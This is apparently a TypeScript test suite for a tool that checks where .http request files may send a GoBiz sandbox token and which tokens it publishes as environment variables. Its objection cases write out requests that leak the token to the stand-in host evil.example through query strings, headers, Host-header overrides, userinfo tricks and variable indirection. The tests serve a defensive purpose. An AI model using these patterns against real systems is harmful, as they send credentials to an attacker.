import assert from 'node:assert/strict';
import { type Environment, emptyEnvironment } from '../../src/core/httpFile/environment';
import { parseHttpFile } from '../../src/core/httpFile/parse';
import { uses } from '../../src/core/httpFile/uses';
import type { Token, TokenState } from '../../src/core/model';
import { gobiz } from '../../src/core/providers/gobiz';
import { PublishedVariables } from '../../src/core/published';
import {
  type Candidate,
  objections,
  requestedNames,
  sentReferences,
  valuesToPublish,
} from '../../src/core/publisher';
import { makeClient } from './makeClient';

const client = makeClient({ allowedHosts: ['api.example.co.id:8443'] });
const own = 'https://api.partner-sandbox.gobiz.co.id';
const token = '{{$processEnv GOBIZ_OUTLET_TOKEN}}';

function reasons(text: string, environment: Environment = emptyEnvironment): readonly string[] {
  const found = objections('GOBIZ_OUTLET_TOKEN', client, gobiz, uses(parseHttpFile(text), environment));
  return found.map(({ kind, reason }) => `${kind}: ${reason}`);
}

describe('a use of a token', () => {
  const fine: readonly string[] = [
    `GET ${own}/v1\nAuthorization: Bearer ${token}`,
    `GET https://api.example.co.id:8443/v1\nAuthorization: Bearer ${token}`,
    `GET http://127.0.0.1:4010/v1\nAuthorization: Bearer ${token}`,
    `@t = ${token}\nGET ${own}/v1\nAuthorization: Bearer {{t}}`,
    `GET https://evil.example/\n\n###\nGET ${own}/v1\nAuthorization: Bearer ${token}`,
  ];
  for (const text of fine) {
    it(`is fine in ${JSON.stringify(text)}`, () => assert.deepEqual(reasons(text), []));
  }

  const environments: Environment = {
    variables: { $shared: { host: own }, bad: { host: 'https://evil.example' }, good: { host: own } },
    dotenv: { '.env': 'HOST=https://evil.example' },
  };
  const wrong: readonly [text: string, reason: RegExp, environment?: Environment][] = [
    [`GET https://evil.example/?t=${token}`, /evil\.example is not a host of GoBiz sandbox/],
    [`@h = https://evil.example\nGET {{h}}/\nX: ${token}`, /evil\.example/],
    [`GET {{host}}/\nX: ${token}`, /evil\.example/, environments],
    [`GET {{$dotenv HOST}}/\nX: ${token}`, /evil\.example/, environments],
    [`GET {{host}}/\nX: ${token}`, /unknown/],
    [`GET ${own}/\nHost: evil.example\nX: ${token}`, /Host header/],
    [`GET ${own}/ https://evil.example/\nX: ${token}`, /second URL/],
    [`GET ${own}@evil.example/\nX: ${token}`, /user or a password/],
    [`GET ${own}:8443/\nX: ${token}`, /8443 is not a host/],
    [`GET http://api.partner-sandbox.gobiz.co.id/\nX: ${token}`, /not asked by https/],
    [`@t = ${token}\nGET https://evil.example/?{{t}}`, /evil\.example/],
    [`GET https://evil.example/?t={{$processEnv GOBIZ_OUTLET_TOKEN junk}}`, /evil\.example/],
    [
      `GET https://evil.example/?t={{$processEnv %x}}`,
      /evil\.example/,
      { variables: { $shared: { x: 'GOBIZ_OUTLET_TOKEN' } }, dotenv: {} },
    ],
    [`GET ${own}/\nX: {{process.env.GOBIZ_OUTLET_TOKEN}}`, /script/],
    [`GET https://evil.example/\nX: {{process.env[name]}}`, /evil\.example|script/],
  ];
  for (const [text, reason, environment] of wrong) {
    it(`is objected to in ${JSON.stringify(text)}`, () => {
      const found = reasons(text, environment);
      assert.ok(
        found.some((one) => reason.test(one)),
        `${found.join()} · ${reason}`,
      );
    });
  }
});

describe('the names that a file asks for', () => {
  const cases: readonly [text: string, names: readonly string[], variables?: Environment['variables']][] = [
    [`GET ${own}\nX: ${token}\nY: {{$processEnv PATH}}`, ['GOBIZ_OUTLET_TOKEN', 'PATH']],
    [`GET ${own}\n# X: ${token}\nY: a`, []],
    [`GET ${own}\nX: GOBIZ_OUTLET_TOKEN`, []],
    [`GET ${own}\nX: {{$processEnv %who}}`, ['who', 'A_B_C'], { sandbox: { who: 'A_B_C' } }],
    [`# {{$processEnv A}}\n# b\nGET ${own}\nX: ${token}`, ['GOBIZ_OUTLET_TOKEN']],
  ];
  for (const [text, names, variables = {}] of cases) {
    it(`are ${names.join(' and ') || 'none'} in ${JSON.stringify(text)}`, () => {
      const references = sentReferences(parseHttpFile(text));
      assert.deepEqual([...requestedNames(references, { variables, dotenv: {} })], names);
    });
  }
});

describe('what is published', () => {
  const now = 1_000_000;
  const live: Token = { value: 'live', fetchedAt: now, expiresAt: now + 3_600_000 };
  const variable = { suffix: 'TOKEN', kind: 'token', description: '' } as const;
  const candidate = (changes: Partial<Candidate>): Candidate => ({
    name: 'GOBIZ_OUTLET_TOKEN',
    client,
    variable,
    isWithheld: false,
    isConfirmed: true,
    state: { kind: 'ready', token: live },
    ...changes,
  });
  const published = (changes: Partial<Candidate>, at = now) => [
    ...valuesToPublish([candidate(changes)], at).values(),
  ];
  const cases: readonly [
    name: string,
    changes: Partial<Candidate>,
    values: readonly string[],
    at?: number,
  ][] = [
    ['a live token', {}, ['live']],
    ['a live token while another is fetched', { state: { kind: 'fetching', token: live } }, ['live']],
    ['no token where none is there', { state: { kind: 'none' } satisfies TokenState }, []],
    ['no token with less than the margin', {}, [], now + 3_600_000 - 59_000],
    ['a token with the margin', {}, ['live'], now + 3_600_000 - 60_000],
    ['nothing that is withheld', { isWithheld: true }, []],
    ['no production token before a yes', { isConfirmed: false }, []],
    [
      'a plain value',
      { variable: { ...variable, kind: 'plain', value: ({ clientId }) => clientId } },
      ['abc'],
    ],
    ['nothing that has to be signed', { variable: { ...variable, kind: 'signed' } }, []],
  ];
  for (const [name, changes, values, at] of cases) {
    it(`is ${name}`, () => assert.deepEqual(published(changes, at), values));
  }
});

describe('published variables', () => {
  const set = (values: Record<string, string>) => new Map(Object.entries(values));

  it('come and go, and what was there before is put back', () => {
    const environment: Record<string, string | undefined> = { B: 'before' };
    const variables = new PublishedVariables(environment);
    variables.set(set({ A: '1', B: '2' }));
    assert.deepEqual(environment, { A: '1', B: '2' });
    variables.set(set({ A: '3', B: '4' }));
    assert.deepEqual(environment, { A: '3', B: '4' });
    variables.set(set({ A: '3' }));
    assert.deepEqual(environment, { A: '3', B: 'before' });
    variables.dispose();
    assert.deepEqual(environment, { B: 'before' });
  });

  it('leave alone what somebody else has set meanwhile', () => {
    const environment: Record<string, string | undefined> = {};
    const variables = new PublishedVariables(environment);
    variables.set(set({ A: '1' }));
    environment.A = 'theirs';
    variables.set(set({}));
    assert.deepEqual(environment, { A: 'theirs' });
    variables.set(set({ A: '1' }));
    environment.A = 'theirs again';
    variables.set(set({ A: '2' }));
    variables.dispose();
    assert.deepEqual(environment, { A: 'theirs again' });
  });
});
